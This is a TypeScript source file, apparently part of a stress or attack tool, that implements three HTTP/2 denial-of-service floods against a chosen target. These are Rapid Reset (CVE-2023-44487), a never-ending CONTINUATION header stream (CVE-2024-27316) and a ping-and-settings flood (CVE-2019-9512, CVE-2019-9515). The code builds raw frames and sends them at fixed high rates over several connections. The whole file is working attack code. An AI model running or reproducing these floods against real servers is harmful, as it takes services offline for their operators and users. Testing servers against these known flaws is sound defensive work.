import { flags, frame, frameTypes, getBlock, literal, overHttp2 } from "./frames";
import type { Target } from "./messages";
import type { Tally } from "./Tally";

const connections = 4;
const cancel = Buffer.from([0, 0, 0, 8]);
/** Requests that each connection begins and resets every 20 ms: 4,000 a second over all connections. */
const resetsPerTurn = 20;
/** Frames that each connection sends every 20 ms: 20,000 a second over all connections. */
const framesPerTurn = 100;

/** Begins requests and resets each one at once (CVE-2023-44487). */
export function rapidReset(target: Target, tally: Tally): void {
    const block = getBlock(target.host);
    overHttp2(target, tally, connections, turn => {
        tally.add("requests reset", resetsPerTurn);
        return Buffer.concat(
            Array.from({ length: resetsPerTurn }, (_, at) => {
                const stream = (turn * resetsPerTurn + at) * 2 + 1;
                return [
                    frame(frameTypes.headers, flags.endStream | flags.endHeaders, stream, block),
                    frame(frameTypes.resetStream, flags.none, stream, cancel),
                ];
            }).flat(),
        );
    });
}

/** Begins a request whose headers never end (CVE-2024-27316 and others): with headers in one half of the frames, and nothing in the others. */
export function continuations(target: Target, tally: Tally): void {
    const some = frame(frameTypes.continuation, flags.none, 1, literal("x-more", "1".repeat(20)));
    const nothing = frame(frameTypes.continuation, flags.none, 1, Buffer.alloc(0));
    const turn = Buffer.concat(Array.from({ length: framesPerTurn / 2 }, () => [some, nothing]).flat());
    const first = frame(frameTypes.headers, flags.endStream, 1, getBlock(target.host));
    overHttp2(target, tally, connections, number => {
        tally.add("frames", framesPerTurn);
        return number === 0 ? Buffer.concat([first, turn]) : turn;
    });
}

/** Asks for an answer to each frame, and has it change its settings all the time (CVE-2019-9512, CVE-2019-9515). */
export function pingsAndSettings(target: Target, tally: Tally): void {
    const ping = frame(frameTypes.ping, flags.none, 0, Buffer.alloc(8));
    // The initial window (4) is 65,535 bytes.
    const settings = frame(frameTypes.settings, flags.none, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff]));
    const turn = Buffer.concat(Array.from({ length: framesPerTurn / 2 }, () => [ping, settings]).flat());
    overHttp2(target, tally, connections, () => {
        tally.add("frames", framesPerTurn);
        return turn;
    });
}
